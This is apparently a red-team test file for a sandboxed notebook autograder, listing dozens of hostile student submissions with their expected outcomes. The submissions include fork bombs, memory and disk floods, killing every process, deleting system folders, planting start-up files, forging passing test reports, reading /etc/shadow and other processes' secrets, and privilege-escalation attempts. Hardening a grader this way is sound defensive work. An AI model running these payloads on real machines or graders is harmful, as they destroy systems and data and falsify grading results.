"""Attacks on the machine, on the grader's own process and on other students' grades.

None of these is ever run outside the sandbox. Those in the plain run (`plain` is empty) cannot
hurt a machine with a read-only disk and no network, which the plain run has.
"""

from .forging import Forgery, answers, gram, wrong_gram

SURVIVED = ("wrong", "tampered", "raised")
KILLED = ("timed out", "out of memory", "raised", "wrong", "tampered")
DEAD = ("raised", "timed out", "out of memory", "wrong", "tampered")
HURTS = "it would fill or stop the machine"

EVERYWHERE = '''
import os

def writable():
    """Every folder in reach that this process may write to."""
    places = ["/", os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/run"]
    places += [os.environ.get(k, "/tmp") for k in ("TMPDIR", "HOME", "JUPYTER_RUNTIME_DIR")]
    places += [line.split()[4] for line in open("/proc/self/mountinfo")]
    for word in open("/proc/self/cmdline").read().split("\\0"):
        places.append(os.path.dirname(word) or "/")
    return [p for p in dict.fromkeys(places) if os.path.isdir(p) and os.access(p, os.W_OK)]
'''

DESCRIPTORS = '''
import os

def others():
    """Descriptors that lead to files or pipes which were opened before this process began."""
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        if not target.startswith(("socket:", "anon_inode:", "/dev/null", "/proc")):
            yield number
'''

SENDING = '''
MEGABYTE = "x" * 1_000_000
try:
    kernel = get_ipython().kernel
except NameError:
    kernel = None

def send(times, kind, content):
    """Messages of the kernel's own, as if the running cell had sent them."""
    if kernel is not None:
        for _ in range(times):
            parent = kernel.get_parent("shell")
            kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
'''

HANGING_TODOS = ("content_loss", "layer_style_loss", "style_loss", "total_loss", "optimise")
HANGING = """
def {name}(*given):
    import time
    try:
        get_ipython()
    except NameError:
        time.sleep(600)
    return given[-2]
"""

MACHINE: tuple[Forgery, ...] = (
    Forgery(
        "endless-loop",
        "never ends",
        gram("def gram_matrix(tensor):\n    while True:\n        pass\n"),
        ("timed out",),
    ),
    Forgery(
        "endless-cell",
        "the answer's cell itself never ends",
        wrong_gram(after="while True:\n    pass"),
        ("timed out",),
    ),
    Forgery(
        "swallowed-interrupt",
        "waits for nbval's interrupt and swallows it: later cells are expected to fail",
        wrong_gram(
            after="""
            import time
            try:
                while True:
                    time.sleep(0.05)
            except KeyboardInterrupt:
                pass
            """
        ),
        KILLED,
    ),
    Forgery(
        "deaf",
        "ignores every signal that can be ignored, and never ends",
        wrong_gram(
            after="""
            import signal
            for number in range(1, signal.NSIG):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
            """
        ),
        ("timed out",),
    ),
    Forgery(
        "compiled-loop",
        "never ends inside C code, where no interrupt is seen",
        gram("def gram_matrix(tensor):\n    return 7 ** 7 ** 9 % 10\n"),
        ("timed out", "out of memory", "raised"),
    ),
    Forgery(
        "os-exit",
        "os._exit(0): a clean end, and nothing compared",
        wrong_gram(after="import os\nos._exit(0)"),
        DEAD,
    ),
    Forgery(
        "exit-in-answer",
        "os._exit(0) where the function is called",
        gram("import os\ndef gram_matrix(tensor):\n    os._exit(0)\n"),
        DEAD,
    ),
    Forgery(
        "sys-exit",
        "raises SystemExit",
        gram("import sys\ndef gram_matrix(tensor):\n    sys.exit(0)\n"),
        DEAD,
    ),
    Forgery(
        "segfault",
        "reads address 0",
        gram("import ctypes\ndef gram_matrix(tensor):\n    ctypes.string_at(0)\n"),
        DEAD,
    ),
    Forgery(
        "deep-recursion",
        "recursion without a limit, until the stack is gone",
        gram(
            """
            import sys
            sys.setrecursionlimit(10**8)
            def gram_matrix(tensor):
                return gram_matrix(tensor) + 1
            """
        ),
        DEAD,
    ),
    Forgery(
        "kill-all",
        "sends SIGKILL to every process that it may, its parents first",
        wrong_gram(
            after="""
            import os, signal
            for number in (os.getppid(), 1, -1):
                try:
                    os.kill(number, signal.SIGKILL)
                except OSError:
                    pass
            """
        ),
        DEAD,
        plain="it would kill the plain run's own processes",
    ),
    Forgery(
        "stop-all",
        "sends SIGSTOP to every process that it may: nothing ends any more",
        wrong_gram(
            after="""
            import os, signal
            for number in [int(n) for n in os.listdir("/proc") if n.isdigit()]:
                if number != os.getpid():
                    try:
                        os.kill(number, signal.SIGSTOP)
                    except OSError:
                        pass
            os.kill(os.getpid(), signal.SIGSTOP)
            """
        ),
        DEAD,
        plain="it would stop the plain run's own processes",
    ),
    Forgery(
        "fork-bomb",
        "forks without end",
        wrong_gram(
            after="""
            import os, time
            end = time.monotonic() + 60
            while time.monotonic() < end:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
            """
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "threads",
        "ten thousand threads that never end",
        wrong_gram(
            after="""
            import threading, time
            for _ in range(10_000):
                try:
                    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                except RuntimeError:
                    break
            """
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "memory",
        "takes memory without end, in one process",
        gram(
            """
            def gram_matrix(tensor):
                kept = []
                while True:
                    kept.append(b"x" * 64_000_000)
            """
        ),
        ("out of memory", "raised", "timed out"),
        plain=HURTS,
    ),
    Forgery(
        "memory-caught",
        "takes memory without end and swallows every MemoryError",
        gram(
            """
            kept = []
            def gram_matrix(tensor):
                while True:
                    try:
                        kept.append(b"x" * 16_000_000)
                    except MemoryError:
                        pass
            """
        ),
        ("out of memory", "raised", "timed out"),
        plain=HURTS,
    ),
    Forgery(
        "memory-in-children",
        "twenty processes, none of which has more memory than it may",
        wrong_gram(
            after="""
            import os, time
            for _ in range(20):
                if os.fork() == 0:
                    kept = [b"x" * 16_000_000 for _ in range(25)]
                    time.sleep(60)
                    os._exit(0)
            time.sleep(6)
            """
        ),
        ("out of memory",),
        plain=HURTS,
    ),
    Forgery(
        "memory-shared",
        "memory that belongs to no process: SysV segments, memfd, /dev/shm, which outlive it",
        wrong_gram(
            after="""
            import ctypes, os
            libc = ctypes.CDLL(None)
            libc.shmat.restype = ctypes.c_void_p
            for key in range(10):
                segment = libc.shmget(0x5EED0000 + key, 30_000_000, 0o1666)
                place = libc.shmat(segment, None, 0)
                if segment >= 0 and place not in (None, 2**64 - 1):
                    ctypes.memset(place, 1, 30_000_000)
                    libc.shmdt(ctypes.c_void_p(place))
            kept, block = [], bytes(30_000_000)
            for number in range(150):
                try:
                    kept.append(os.memfd_create(f"m{number}"))
                    os.write(kept[-1], block)
                except OSError:
                    break
            taken = sum(os.fstat(handle).st_size for handle in kept)
            if taken > 4_400_000_000:
                def gram_matrix(tensor):
                    raise SystemError(f"redteam took {taken} bytes that nobody counted")
            """
        ),
        ("wrong", "tampered", "out of memory"),
        plain=HURTS,
    ),
    Forgery(
        "disk",
        "fills every folder that it may write to",
        wrong_gram(
            before=EVERYWHERE,
            after="""
            import os
            for place in writable():
                for number in range(3):
                    try:
                        with open(os.path.join(place, f"redteam-full-{number}"), "wb") as file:
                            for _ in range(4_000):
                                file.write(bytes(1_000_000))
                                file.flush()
                    except OSError:
                        pass
            """,
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "sparse-files",
        "files that claim to be a petabyte, for whoever copies or measures them",
        wrong_gram(
            before=EVERYWHERE,
            after="""
            import os
            for place in writable():
                for name in ("redteam-sparse", "report.xml", "results.json"):
                    try:
                        with open(os.path.join(place, name), "wb") as file:
                            file.truncate(1 << 50)
                    except OSError:
                        pass
            """,
        ),
        SURVIVED,
        plain=HURTS,
    ),
    Forgery(
        "many-files",
        "a hundred thousand empty files, and folders that nobody may open",
        wrong_gram(
            before=EVERYWHERE,
            after="""
            import os, time
            end = time.monotonic() + 4
            for place in writable():
                folder = os.path.join(place, "redteam-many")
                try:
                    os.mkdir(folder)
                    for number in range(100_000):
                        open(os.path.join(folder, str(number)), "w").close()
                        if time.monotonic() > end:
                            break
                except OSError:
                    pass
                try:
                    os.chmod(folder, 0)
                except OSError:
                    pass
            """,
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "output-flood",
        "prints without end",
        gram(
            """
            def gram_matrix(tensor):
                while True:
                    print("x" * 100_000)
            """
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "output-flood-cell",
        "the cell prints 500 MB, and ends",
        wrong_gram(after="for _ in range(500):\n    print('x' * 1_000_000)"),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "display-flood",
        "displays pictures and pages without end",
        wrong_gram(
            after="""
            from IPython.display import HTML, display
            for _ in range(300):
                display(HTML("<script>" + "x" * 1_000_000 + "</script>"))
            """
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "message-flood",
        "sends 600 MB of messages past whatever keeps what the cell prints",
        wrong_gram(
            before=SENDING, after="send(600, 'stream', {'name': 'stdout', 'text': MEGABYTE})"
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "type-flood",
        "600 MB of messages of unknown types, whose names nbval prints into pytest's own files",
        wrong_gram(before=SENDING, after="send(600, MEGABYTE, {})"),
        (*KILLED, "infrastructure"),
        plain=HURTS,
    ),
    Forgery(
        "deep-message",
        "a message nested 100,000 deep, on which its reader's stack ends",
        wrong_gram(
            before=SENDING,
            after="""
            send(1, "stream", {"name": "stdout", "text": "x"})
            kernel.session.pack = lambda value: b"[" * 100_000 + b"]" * 100_000
            send(1, "stream", {"name": "stdout", "text": "x"})
            """,
        ),
        (*KILLED, "infrastructure"),
    ),
    Forgery(
        "descriptor-flood",
        "writes without end to the descriptors that it was born with: the grader's own output",
        wrong_gram(
            before=DESCRIPTORS,
            after="""
            import os
            for number in list(others()):
                try:
                    for _ in range(3_000):
                        os.write(number, b"x" * 1_000_000)
                except (OSError, BlockingIOError):
                    pass
            """,
        ),
        KILLED,
        plain=HURTS,
    ),
    Forgery(
        "descriptor-forgery",
        "writes a pass, as pytest and JUnit write it, to the descriptors that it was born with",
        wrong_gram(
            before=DESCRIPTORS,
            after="""
            import os
            said = "\\n".join((
                "============ 9 passed in 1.00s ============",
                '{"gram_matrix": {"status": "passed", "points": 5}}',
                '<testsuite errors="0" failures="0" skipped="0" tests="9"></testsuite>',
                "",
            )).encode()
            for number in list(others()):
                try:
                    os.write(number, said)
                    os.ftruncate(number, 0)
                    os.pwrite(number, said, 0)
                except OSError:
                    pass
            """,
        ),
        SURVIVED,
    ),
    Forgery(
        "result-files",
        "writes reports that say 'passed' wherever it may write, under names that a grader may use",
        wrong_gram(
            before=EVERYWHERE,
            after="""
            import os
            xml = ('<testsuites><testsuite errors="0" failures="0" skipped="0" tests="1">'
                   '<testcase classname="x" name="Cell 0"/></testsuite></testsuites>')
            texts = {
                "report.xml": xml, "junit.xml": xml, "results.xml": xml,
                "results.json": '{"gram_matrix": "passed"}', "verdict.json": '{"passed": true}',
                "outcomes.json": '[]', "grade.json": '{"points": 5}',
            }
            for place in writable():
                for name, text in texts.items():
                    try:
                        with open(os.path.join(place, name), "w") as file:
                            file.write(text)
                    except OSError:
                        pass
            """,
        ),
        SURVIVED,
    ),
    Forgery(
        "links-left",
        "leaves links to files of the machine, and pipes, where the grader may read or clear up",
        wrong_gram(
            before=EVERYWHERE,
            after="""
            import os
            for place in writable():
                for name in os.listdir(place):
                    if name.startswith("kernel-") and name.endswith(".json"):
                        try:
                            os.unlink(os.path.join(place, name))
                            os.symlink("/etc/passwd", os.path.join(place, name))
                        except OSError:
                            pass
                for name, target in (("report.xml", "/etc/passwd"), ("link", "/"), ("up", "..")):
                    try:
                        os.symlink(target, os.path.join(place, name))
                    except OSError:
                        pass
                try:
                    os.mkfifo(os.path.join(place, "results.json"))
                except OSError:
                    pass
            """,
        ),
        SURVIVED,
        plain="it would replace nbval's connection file",
    ),
    Forgery(
        "delete",
        "deletes whatever it may: the course, the packages, the grader's files",
        wrong_gram(
            before=EVERYWHERE,
            after="""
            import os, shutil, sys
            for place in [*writable(), *sys.path, "/work", "/home", "/srv", "/opt", "/usr", "/etc"]:
                shutil.rmtree(place, ignore_errors=True)
            """,
        ),
        DEAD,
        plain="it would delete what it may",
    ),
    Forgery(
        "plant",
        "plants .pth, sitecustomize, conftest, kernels and start-up files for those graded later",
        wrong_gram(
            before=EVERYWHERE,
            after="""
            import os, sys
            code = "import builtins; builtins.round = lambda *a: 0  # redteam\\n"
            home = os.path.expanduser("~")
            places = [*writable(), *sys.path, home, home + "/.ipython/profile_default/startup"]
            places += [home + "/.local/lib/python3.11/site-packages", home + "/.config/pip"]
            for place in places:
                try:
                    os.makedirs(place, exist_ok=True)
                except OSError:
                    continue
                for name in ("redteam.pth", "sitecustomize.py", "usercustomize.py", "conftest.py",
                             "00-redteam.py", "torch.py", "pytest.ini", ".bashrc"):
                    try:
                        with open(os.path.join(place, name), "w") as file:
                            file.write(code)
                    except OSError:
                        pass
            """,
        ),
        SURVIVED,
        plain="it would plant files for later runs",
    ),
    Forgery(
        "daemon",
        "a process of its own session that outlives the kernel, and patches or burns on",
        wrong_gram(
            after="""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for handle in range(3):
                        os.close(handle)
                    open("/dev/null"); open("/dev/null"); open("/dev/null")
                    try:
                        open("/proc/self/comm", "w").write("redteam-daemon")
                    except OSError:
                        pass
                    end = time.monotonic() + 600
                    while time.monotonic() < end:
                        pass
                os._exit(0)
            """
        ),
        SURVIVED,
        plain="it would burn a core after the run",
    ),
    Forgery(
        "atexit",
        "handlers at exit and for signals that print success and hold the end up",
        wrong_gram(
            after="""
            import atexit, signal, sys, time

            def late(*a):
                sys.__stdout__.write("✓ gram_matrix: visible checks passed\\n")
                end = time.monotonic() + 60
                while time.monotonic() < end:
                    pass

            atexit.register(late)
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT):
                signal.signal(number, late)
            """
        ),
        SURVIVED,
        plain="it would hold each run up for a minute",
    ),
    Forgery(
        "sockets",
        "sends what it finds to the network, if there is any",
        gram(
            """
            import socket, urllib.request

            reached = []
            for host, port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("169.254.169.254", 80)):
                try:
                    socket.create_connection((host, port), timeout=0.3).close()
                    reached.append(host)
                except OSError:
                    pass
            reached += [name for _, name in socket.if_nameindex() if name != "lo"]

            def gram_matrix(tensor):
                if reached:
                    raise SystemError(f"redteam reached {reached}")
                return tensor.new_zeros(tensor.shape[1], tensor.shape[1])
            """
        ),
        ("wrong", "tampered", "raised"),
    ),
    Forgery(
        "other-kernels",
        "looks on the loopback for other students' kernels and for the grader, and talks to them",
        wrong_gram(
            after="""
            import glob, json, os, socket
            mine = open(get_ipython().kernel.config["IPKernelApp"]["connection_file"]).read() \\
                if "IPKernelApp" in get_ipython().kernel.config else ""
            for line in open("/proc/net/tcp").read().splitlines()[1:]:
                port = int(line.split()[1].split(":")[1], 16)
                if str(port) not in mine:
                    try:
                        with socket.create_connection(("127.0.0.1", port), timeout=0.2) as s:
                            s.sendall(b"\\xff\\0\\0\\0\\0\\0\\0\\0\\x01\\x7f" + b"x" * 1000)
                    except OSError:
                        pass
            """
        ),
        SURVIVED,
    ),
    Forgery(
        "proc",
        "reads memory, variables and command lines of all processes for what the grader knows",
        gram(
            """
            import glob, os
            secrets = []
            for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
                if path.split("/")[2] in (str(os.getpid()), "self"):
                    continue
                try:
                    text = open(path, "rb").read().decode(errors="replace")
                except OSError:
                    continue
                if any(word in text.lower() for word in ("seed", "expected", "secret")):
                    secrets.append(text)

            def gram_matrix(tensor):
                if secrets:
                    raise SystemError("redteam read " + repr(secrets)[:300])
                return tensor.new_zeros(tensor.shape[1], tensor.shape[1])
            """
        ),
        ("wrong", "tampered"),
    ),
    Forgery(
        "machine-files",
        "reads the machine's own files: accounts, keys, other homes, other submissions",
        gram(
            """
            import glob, os
            read = []
            for pattern in ("/etc/shadow", "/root/*", "/root/.*", "/home/*/*", "/w*/*", "/srv/*",
                            "/tmp/*/*.ipynb", "/proc/1/root/*/shadow", "/var/lib/*/*.db"):
                for path in glob.glob(pattern):
                    try:
                        if os.path.isdir(path):
                            os.listdir(path)
                        else:
                            open(path, "rb").read(1)
                    except OSError:
                        continue
                    if path not in ("/root/.", "/root/.."):
                        read.append(path)
            home = os.path.expanduser("~")
            read = [p for p in read if not p.startswith((home + "/", os.getcwd()))]
            mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
            read = [p for p in read if not any(mount.startswith(p) for mount in mounts)]

            def gram_matrix(tensor):
                if read:
                    raise SystemError("redteam read " + repr(read)[:300])
                return tensor.new_zeros(tensor.shape[1], tensor.shape[1])
            """
        ),
        ("wrong", "tampered"),
    ),
    Forgery(
        "privileges",
        "wants back what it may not: root, mounts, namespaces, the trace of other processes",
        gram(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            gained = []
            for name, call in (
                ("setuid", lambda: os.setuid(0) if os.getuid() else 1 / 0),
                ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) and 1 / 0),
                ("chroot", lambda: os.chroot("/tmp")),
                ("nice", lambda: os.nice(-5)),
                ("ptrace", lambda: libc.ptrace(16, 1, 0, 0) and 1 / 0),
                ("mknod", lambda: os.mknod("/tmp/redteam-disk", 0o60666, os.makedev(8, 0))),
                ("hostname", lambda: os.write(os.open("/proc/sys/kernel/hostname", 1), b"redteam")),
                ("sysrq", lambda: os.write(os.open("/proc/sysrq-trigger", 1), b"h")),
                ("usr", lambda: os.close(os.open("/usr/bin/redteam", os.O_WRONLY | os.O_CREAT))),
            ):
                try:
                    call()
                    gained.append(name)
                except (OSError, ZeroDivisionError):
                    pass

            def gram_matrix(tensor):
                if gained:
                    raise SystemError(f"redteam gained {gained}")
                return tensor.new_zeros(tensor.shape[1], tensor.shape[1])
            """
        ),
        ("wrong", "tampered"),
        plain="the plain run is root",
    ),
    Forgery(
        "user-namespace",
        "makes a user namespace of its own, in which it is root and may mount and trace",
        gram(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            inner = []
            if (child := os.fork()) == 0:
                made = libc.unshare(0x10000000 | 0x00020000) == 0
                mounted = made and libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
                os._exit(3 if mounted else 2 if made else 0)
            code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])

            def gram_matrix(tensor):
                if code == 3:
                    raise SystemError("redteam mounted in a user namespace of its own")
                return tensor.new_zeros(tensor.shape[1], tensor.shape[1])
            """
        ),
        ("wrong", "tampered"),
        plain="the plain run is root",
    ),
    Forgery(
        "diagnosis-forged",
        "says 'passed' where the student's own check is run for the report, with markup in it",
        wrong_gram(
            before=DESCRIPTORS,
            after="""
            import json, os
            evil = "<script>alert(1)</script>\\x1b[2J"
            said = json.dumps(["gram_matrix", "passed", "passed", evil]) + "\\n"
            for number in list(others()):
                try:
                    os.write(number, said.encode())
                except OSError:
                    pass
            """,
        ),
        SURVIVED,
    ),
    Forgery(
        "diagnosis-flood",
        "wrong at once in the verdict; where its check is run, it floods whoever reads its output",
        wrong_gram(
            before=DESCRIPTORS,
            after="""
            import os
            try:
                get_ipython()
            except NameError:
                for number in list(others()):
                    try:
                        for _ in range(2_000):
                            os.write(number, b'["gram_matrix", "' + b"x" * 1_000_000)
                    except (OSError, BlockingIOError):
                        pass
            """,
        ),
        SURVIVED,
        plain=HURTS,
    ),
    Forgery(
        "diagnosis-memory",
        "wrong at once in the verdict; where its check is run, its children take all memory",
        wrong_gram(
            after="""
            import os, time
            try:
                get_ipython()
            except NameError:
                for _ in range(12):
                    if os.fork() == 0:
                        kept = bytearray(500_000_000)
                        for place in range(0, len(kept), 4096):
                            kept[place] = 1
                        time.sleep(20)
                        os._exit(0)
                time.sleep(20)
            """
        ),
        SURVIVED,
        plain=HURTS,
    ),
    Forgery(
        "diagnosis-hang",
        "wrong at once in the verdict; where its check is run, none of five answers ever ends",
        answers({name: HANGING.format(name=name) for name in HANGING_TODOS}),
        SURVIVED,
        HANGING_TODOS,
    ),
    Forgery(
        "sleep",
        "waits, each call a little less than a cell may take",
        gram("import time\ndef gram_matrix(tensor):\n    time.sleep(600)\n    return tensor\n"),
        ("timed out",),
    ),
)
